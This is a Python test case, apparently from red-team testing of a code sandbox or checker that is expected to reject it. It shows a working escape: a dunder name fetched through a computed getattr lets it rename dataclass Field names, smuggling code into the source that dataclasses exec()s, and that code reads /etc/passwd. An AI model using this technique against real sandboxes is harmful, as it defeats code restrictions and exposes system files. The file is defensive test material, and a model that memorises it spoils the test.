# expect: reject builtin
# line: 24
# verified: reaches its goal under plain python3 (3.11) in a temp dir (red team round 8, family D)
# Mechanism: G2 reopened through a sibling mixin: closed class A (not a dataclass, not a base or subclass of one) has getattr(self, k) with a computed name; class E(A, B) with B a @dataclass makes self an instance of a dataclass subclass, so getattr(self, K) fetches __dataclass_fields__ (K built without a leading '__' in the text). The Field objects' .name is renamed (store not judged) and a @dataclass subclass of B pastes it into the source dataclasses exec()s. RELIES on the dunder name __dataclass_fields__ given to getattr at run time. Controls (refused by builtin): the same getattr in B itself or in a base of B.
# Goal reached: /etc/passwd read (open() in exec'd dataclass source); dataclasses then raises a TypeError after the goal
# Output under python3 (3.11, throw-away temp dir):
#   root:x:0:0:root:/root:/bin/bash
#   daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
#   
#   Traceback (most recent call last):
#     File "d1.py", line 25, in <module>
#       @dataclasses.dataclass
#        ^^^^^^^^^^^^^^^^^^^^^
#     File "/usr/lib/python3.11/dataclasses.py", line 1220, in dataclass

import dataclasses

N = "x=print(open('/etc/passwd').read(80))):#"
K = "x__dataclass_fields__"[1:]


class A:
    def grab(self, k):
        return getattr(self, k)


@dataclasses.dataclass
class B:
    y: dataclasses.InitVar[int] = 0


class E(A, B):
    pass


for f in E().grab(K).values():
    f.name = N


@dataclasses.dataclass
class D(B):
    pass
